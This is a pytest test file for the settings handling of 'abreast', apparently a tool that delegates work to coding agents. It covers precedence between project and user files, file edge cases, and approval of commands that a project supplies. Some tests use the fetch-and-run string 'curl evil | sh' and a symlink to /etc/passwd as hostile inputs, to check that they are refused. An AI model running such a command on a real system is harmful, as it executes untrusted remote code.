"""The files of settings: whose they are, when they count, and how they are written."""

import os
import shlex
import tomllib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

import abreast
from abreast import api
from abreast.engine.client.delegating import load_settings
from abreast.engine.client.planning import chosen_agent
from abreast.engine.client.settings import EffectiveSettings, read_settings, trust
from abreast.errors import NotFoundError, PlanError, StateError, UntrustedError
from abreast.git.repository import find_repository
from abreast.places import Places, find_places
from abreast.plan.project import ProjectCommands
from abreast.plan.settings import flat
from tests.support.repos import Repo


def test_a_byte_order_mark_is_no_error(tmp_path: Path, scratch_home: Path) -> None:
    content = b"\xef\xbb\xbfverify = 'make'\r\n[delegate]\r\nlimit_tokens = 700\r\n"
    (tmp_path / "abreast.toml").write_bytes(content)
    assert load_settings(tmp_path).limit_tokens == 700


def test_a_project_says_more_of_delegations_than_its_user(
    tmp_path: Path, scratch_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine = scratch_home / "config.toml"
    monkeypatch.setenv("ABREAST_CONFIG", str(mine))
    mine.write_text('[delegate]\nlimit_tokens = 900\nagent = "codex"\n')
    assert load_settings(tmp_path).limit_tokens == 900
    (tmp_path / "abreast.toml").write_text("[delegate]\nlimit_tokens = 700\n")
    found = load_settings(tmp_path)
    assert (found.limit_tokens, found.agent) == (700, "codex")


@pytest.fixture
def places(scratch_home: Path) -> Places:
    assert scratch_home.is_dir()
    return find_places()


def commit(repo: Repo, text: str) -> str:
    (repo.path / "abreast.toml").write_text(text)
    repo.git("add", "-A")
    repo.git("commit", "-qm", "settings")
    return repo.git("rev-parse", "HEAD")


def test_what_a_project_asks_for_waits_for_a_yes_to_just_that(
    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo.path)
    commit(repo, 'verify = "make"\nmodel = "m"\n')
    with pytest.raises(UntrustedError) as refused:
        api.read_plan(None, ["Do a."])
    assert refused.value.asked == {"verify": "make"}
    counts = {one.key: one.value for one in abreast.settings()}
    assert (counts["verify"], counts["model"]) == ("", "m")

    assert abreast.trust_settings() == {"verify": "make"}
    found = found_settings(repo, places)
    assert found.values["verify"] == "make"
    first = repo.git("rev-parse", "HEAD")
    commit(repo, 'verify = "make"\nmodel = "other"\ngate = "off"\n')
    assert found_settings(repo, places).asked == {}
    commit(repo, 'verify = "curl evil | sh"\n')
    assert found_settings(repo, places).asked == {"verify": "curl evil | sh"}
    assert abreast.asked_settings(base=first) == {}


def found_settings(repo: Repo, places: Places) -> EffectiveSettings:
    head = repo.git("rev-parse", "HEAD")
    return read_settings(find_repository(repo.path), head, places, os.environ)


def test_what_is_not_committed_does_not_count(repo: Repo, places: Places) -> None:
    (repo.path / "abreast.toml").write_text('verify = "make"\n')
    assert found_settings(repo, places).values == {}
    (repo.path / "abreast.toml").unlink()
    (repo.path / "abreast.toml").symlink_to("/etc/passwd")
    commit_link = ("add", "-A")
    repo.git(*commit_link)
    repo.git("commit", "-qm", "a link")
    with pytest.raises(PlanError, match="not valid TOML"):  # its text is where it leads
        found_settings(repo, places)
    (repo.path / "abreast.toml").unlink()
    (repo.path / "abreast.toml").mkdir()
    (repo.path / "abreast.toml" / "file").write_text("x")
    repo.git(*commit_link)
    repo.git("commit", "-qm", "a folder")
    assert found_settings(repo, places).values == {}


def test_a_huge_file_of_settings_is_refused(repo: Repo, places: Places) -> None:
    commit(repo, "# " + "x" * 200_000)
    with pytest.raises(PlanError, match="more than 100000 bytes"):
        found_settings(repo, places)


def test_a_setting_is_written_where_it_stands_and_comments_stay(
    scratch_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = tmp_path / "dotfiles" / "abreast.toml"
    kept.parent.mkdir()
    kept.write_text('# mine\nagent = "codex"  # the quick one\n\n[limits]\nturns = 5\n')
    file = scratch_home / "config.toml"
    file.symlink_to(kept)
    monkeypatch.setenv("ABREAST_CONFIG", str(file))
    for key, value in (("model", "m"), ("limits.minutes", "30"), ("pr.draft", "true")):
        abreast.set_setting(key, value)
    assert file.is_symlink()
    text = kept.read_text()
    assert text.startswith('# mine\nagent = "codex"  # the quick one\nmodel = "m"\n')
    assert tomllib.loads(text) == {
        "agent": "codex",
        "model": "m",
        "limits": {"turns": 5, "minutes": 30},
        "pr": {"draft": True},
    }
    assert abreast.set_setting("verify", "true") == (file, "true"), "it is a command here"
    assert abreast.set_setting("model", "") == (file, None)
    before = kept.read_text()
    for key, value in (("modle", "m"), ("land", "up"), ("limits", "3"), ("limits.turns", "-1")):
        with pytest.raises(PlanError):
            abreast.set_setting(key, value)
    assert kept.read_text() == before


def test_the_first_setting_is_the_first_line(
    scratch_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ABREAST_CONFIG", str(scratch_home / "config.toml"))
    file, _ = abreast.set_setting("limits.minutes", "30")
    assert file.read_text() == "[limits]\nminutes = 30\n"


def test_the_sandbox_is_set_by_its_short_name_and_its_keys(
    scratch_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = scratch_home / "config.toml"
    file.write_text('sandbox = "none"  # for now\nagent = "codex"\n')
    monkeypatch.setenv("ABREAST_CONFIG", str(file))
    abreast.set_setting("sandbox.allow", '["/srv"]')
    whole = {"agent": "codex", "sandbox": {"mode": "none", "allow": ["/srv"]}}
    assert tomllib.loads(file.read_text()) == whole
    abreast.set_setting("sandbox", "bwrap")
    assert tomllib.loads(file.read_text())["sandbox"] == {"mode": "bwrap", "allow": ["/srv"]}
    with pytest.raises(PlanError, match="must be one of auto, bwrap, none"):
        abreast.set_setting("sandbox", "docker")


def test_a_file_that_cannot_be_read_stops_before_anything_has_happened(
    repo: Repo, scratch_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo.path)
    file = scratch_home / "config.toml"
    monkeypatch.setenv("ABREAST_CONFIG", str(file))
    file.write_text("agnet = 'codex'")
    with pytest.raises(PlanError, match="agnet: unknown key"):
        api.read_plan(None, ["Do a."])
    with pytest.raises(PlanError, match="unknown key"):
        abreast.set_setting("agent", "codex")
    assert file.read_text() == "agnet = 'codex'"
    file.write_bytes(b"\xff\xfe")
    with pytest.raises(PlanError, match="it is not UTF-8"):
        abreast.settings()
    file.write_text("agent = " + 5000 * "[")
    with pytest.raises(PlanError, match="nested too deeply"):
        abreast.settings()


@pytest.mark.parametrize("kind", ["folder", "pipe", "loop", "below a file"])
def test_what_is_no_file_is_told_and_left_alone(
    scratch_home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    file = scratch_home / "config.toml"
    if kind == "folder":
        file.mkdir()
    elif kind == "pipe":
        os.mkfifo(file)
    elif kind == "loop":
        file.symlink_to(file)
    else:
        (scratch_home / "a").write_text("")
        file = scratch_home / "a" / "config.toml"
    monkeypatch.setenv("ABREAST_CONFIG", str(file))
    before = file.lstat().st_mode if kind != "below a file" else 0
    for act in (abreast.settings, lambda: abreast.set_setting("model", "m")):
        with pytest.raises(PlanError, match="the settings are wrong"):
            act()
    assert kind == "below a file" or file.lstat().st_mode == before


def test_a_link_to_a_file_that_is_not_there_yet_and_the_null_device(
    scratch_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = scratch_home / "config.toml"
    file.symlink_to(scratch_home / "dotfiles" / "abreast.toml")
    monkeypatch.setenv("ABREAST_CONFIG", str(file))
    assert {one.level for one in abreast.settings()} == {"default"}
    abreast.set_setting("model", "m")
    assert file.is_symlink()
    assert file.read_text() == 'model = "m"\n'
    monkeypatch.setenv("ABREAST_CONFIG", os.devnull)
    assert {one.level for one in abreast.settings()} == {"default"}
    with pytest.raises(StateError, match="cannot be written"):
        abreast.set_setting("model", "m")


@pytest.mark.parametrize(
    ("key", "value"), [("model", "m\udcff"), ("pool", 5000 * "["), ("limits.usd", "nan")]
)
def test_a_value_that_nobody_could_read_again_is_not_written(
    scratch_home: Path, monkeypatch: pytest.MonkeyPatch, key: str, value: str
) -> None:
    monkeypatch.setenv("ABREAST_CONFIG", str(scratch_home / "config.toml"))
    with pytest.raises(PlanError):
        abreast.set_setting(key, value)
    assert not (scratch_home / "config.toml").exists()


def test_the_bytes_of_a_projects_file_are_a_text(repo: Repo, places: Places) -> None:
    commit(repo, '\N{ZERO WIDTH NO-BREAK SPACE}model = "m"\r\n')
    assert found_settings(repo, places).values == {"model": "m"}
    (repo.path / "abreast.toml").write_bytes(b"verify = 'make \xff'")
    repo.git("commit", "-aqm", "latin")
    latin = repo.git("rev-parse", "HEAD")
    (repo.path / "abreast.toml").write_text("")  # what is not committed does not count
    with pytest.raises(PlanError, match=rf"settings of commit {latin[:12]} are wrong.*\n.*UTF-8"):
        found_settings(repo, places)


def test_the_agent_of_a_session_by_hand_is_that_of_the_settings(
    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert places.state
    monkeypatch.chdir(repo.path)
    abreast.set_setting("agent", "codex")
    abreast.set_setting("model", "m")
    assert chosen_agent("HEAD", None, "") == ("codex", "m")
    monkeypatch.setenv("ABREAST_AGENT", "gemini")
    assert chosen_agent("HEAD", None, "n") == ("gemini", "n")


def test_an_empty_table_asks_for_nothing(repo: Repo, places: Places) -> None:
    commit(repo, "[limits]\n[pr]\n")
    assert found_settings(repo, places).asked == {}


def test_a_yes_is_to_what_was_shown(
    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo.path)
    commit(repo, 'verify = "make"\n')
    seen = abreast.asked_settings()
    commit(repo, 'verify = "curl evil | sh"\n')
    with pytest.raises(StateError, match="changed meanwhile"):
        abreast.trust_settings(shown=seen)
    assert found_settings(repo, places).asked == {"verify": "curl evil | sh"}
    with pytest.raises(NotFoundError, match="no commit is called 'nonsense'"):
        abreast.asked_settings(base="nonsense")
    with pytest.raises(NotFoundError, match="is not a folder"):
        abreast.settings(repo=repo.path / "nonsense")


def test_several_who_say_yes_at_once_are_all_heard(repo: Repo, places: Places) -> None:
    commits = [commit(repo, f'verify = "make {number}"\n') for number in range(8)]

    def say_yes(base: str) -> None:
        found = read_settings(find_repository(repo.path), base, places, os.environ)
        trust(found, places)

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(say_yes, commits))
    for base in commits:
        found = read_settings(find_repository(repo.path), base, places, os.environ)
        assert found.asked == {}


def test_several_who_write_a_file_at_once_are_all_heard(repo: Repo, places: Places) -> None:
    (repo.path / "abreast.toml").write_text("# ours\n")
    values = {
        "model": "m",
        "verify": "make",
        "limits.turns": 5,
        "limits.tokens": 900,
        "pr.draft": True,
        "pool": 2,
        "batch": 3,
        "land_style": "merge",
    }

    def write(key: str) -> None:
        text = str(values[key]).replace("True", "true")
        abreast.set_setting(key, text, project=True, repo=repo.path, places=places)

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(write, values))
    found = tomllib.loads((repo.path / "abreast.toml").read_text())
    assert dict(flat(found)) == values


def test_the_hint_of_a_refusal_works_from_elsewhere(
    repo: Repo, places: Places, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert places.state
    commit(repo, 'verify = "make"\n')
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UntrustedError) as refused:
        api.read_plan(None, ["Do a."], repo=repo.path)
    assert str(refused.value.hint).endswith(f" --repo {shlex.quote(str(repo.path))}")
    monkeypatch.chdir(repo.path)
    with pytest.raises(UntrustedError) as refused:
        api.read_plan(None, ["Do a."])
    assert "--repo" not in str(refused.value.hint)


def test_a_projects_file_is_no_link_out_of_it(
    repo: Repo, places: Places, scratch_home: Path
) -> None:
    assert places.state
    mine = scratch_home / "config.toml"
    mine.write_text("")
    for target in (mine, scratch_home / "not-there"):
        (repo.path / "abreast.toml").unlink(missing_ok=True)
        (repo.path / "abreast.toml").symlink_to(target)
        with pytest.raises(StateError, match="is a link"):
            abreast.set_setting("model", "m", project=True, repo=repo.path)
        with pytest.raises(StateError, match="is a link"):
            abreast.init(ProjectCommands(verify="make"), repo=repo.path)
    assert mine.read_text() == ""
    assert not (scratch_home / "not-there").exists()


def test_init_says_yes_to_nothing_that_somebody_else_wrote(repo: Repo, places: Places) -> None:
    commit(repo, 'pass_env = ["*"]  # verify = "make" once stood here\n')
    abreast.init(ProjectCommands(verify="make"), repo=repo.path)
    repo.git("commit", "-aqm", "init")
    assert found_settings(repo, places).asked == {"pass_env": ["*"], "verify": "make"}
    abreast.trust_settings(repo=repo.path)
    abreast.init(ProjectCommands(setup="true"), repo=repo.path)
    repo.git("commit", "-aqm", "init")
    assert found_settings(repo, places).asked == {}, "all of it was agreed to"


def test_a_plan_may_come_through_a_pipe(repo: Repo, places: Places, tmp_path: Path) -> None:
    assert places.state
    pipe = tmp_path / "plan.toml"
    os.mkfifo(pipe)
    text = '[[task]]\nid = "a"\nprompt = "x"\nagent = { command = "true" }\n'
    with ThreadPoolExecutor(1) as pool:
        written = pool.submit(pipe.write_text, text)
        plan, _ = api.read_plan(pipe, repo=repo.path)
        written.result()
    assert [task.id for task in plan.tasks] == ["a"]


def test_a_variable_that_means_nothing_is_told_by_its_name(
    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert places.state
    monkeypatch.chdir(repo.path)
    monkeypatch.setenv("ABREAST_AGENT", "codx")
    monkeypatch.setenv("ABREAST_MAX_PARALLEL", "-1")
    for act in (abreast.settings, lambda: api.read_plan(None, ["Do a."])):
        with pytest.raises(PlanError) as refused:
            act()
        where = [problem.where for problem in refused.value.problems]
        assert where == ["ABREAST_AGENT", "ABREAST_MAX_PARALLEL"]
